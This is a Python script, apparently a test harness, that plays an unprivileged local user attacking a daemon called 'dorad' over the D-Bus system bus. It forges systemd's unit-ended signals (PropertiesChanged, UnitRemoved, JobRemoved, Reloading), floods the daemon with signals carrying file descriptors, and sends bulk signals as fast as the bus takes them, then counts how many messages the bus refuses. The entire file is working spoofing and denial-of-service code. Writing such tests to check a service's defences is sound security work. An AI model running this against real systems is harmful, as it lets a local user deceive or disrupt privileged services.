"""A local user without rights that attacks dorad over D-Bus.

    stranger.py forge DORAD UNIT     say, as if systemd did, that a unit has ended
    stranger.py descriptors DORAD N  send N signals with 16 descriptors each
    stranger.py flood DORAD N        send N signals as fast as the bus takes them

DORAD is its unique name on the bus. Prints how many messages the bus has refused.
"""

from __future__ import annotations

import os
import sys
from typing import TYPE_CHECKING

from jeepney import DBusAddress, HeaderFields, MessageType, new_method_call, new_signal
from jeepney.io.blocking import open_dbus_connection

if TYPE_CHECKING:
    from collections.abc import Iterator

    from jeepney import Message

PROPERTIES = DBusAddress("/", interface="org.freedesktop.DBus.Properties")
MANAGER = DBusAddress("/org/freedesktop/systemd1", interface="org.freedesktop.systemd1.Manager")
SERVICE = "org.freedesktop.systemd1.Service"


def ended(unit: str) -> Iterator[Message]:
    """Return the signals that systemd sends when a unit ends."""
    name = "".join(c if c.isalnum() else f"_{ord(c):02x}" for c in unit)
    path = f"/org/freedesktop/systemd1/unit/{name}"
    place = DBusAddress(path, interface=PROPERTIES.interface)
    values = {"ExecMainCode": ("i", 1), "ExecMainStatus": ("i", 0)}
    yield new_signal(place, "PropertiesChanged", "sa{sv}as", (SERVICE, values, []))
    yield new_signal(MANAGER, "UnitRemoved", "so", (unit, path))
    yield new_signal(MANAGER, "JobRemoved", "uoss", (1, "/", unit, "done"))
    yield new_signal(MANAGER, "Reloading", "b", (False,))


def main(what: str, dorad: str, argument: str) -> None:
    """Run the attack that the arguments name."""
    refused = 0
    with open_dbus_connection("SYSTEM", enable_fds=True) as bus:
        end, _ = os.pipe()
        place = DBusAddress("/a", interface="a.b")
        count = 1 if what == "forge" else int(argument)
        for _ in range(count):
            if what == "forge":
                messages = list(ended(argument))
            elif what == "descriptors":
                messages = [new_signal(place, "Signal", "ah", ([end] * 16,))]
            else:
                messages = [new_signal(place, "Signal", "s", ("x" * 100,))]
            for message in messages:
                message.header.fields[HeaderFields.destination] = dorad
                bus.send(message)
        done = new_method_call(
            DBusAddress("/", "org.freedesktop.DBus", "org.freedesktop.DBus"), "GetId"
        )
        # An error about the messages before arrives ahead of this answer.
        serial = next(bus.outgoing_serial)
        bus.send(done, serial=serial)
        while True:
            message = bus.receive(timeout=120)
            if message.header.fields.get(HeaderFields.reply_serial) == serial:
                break
            refused += message.header.message_type is MessageType.error
    print(refused)


main(*sys.argv[1:])
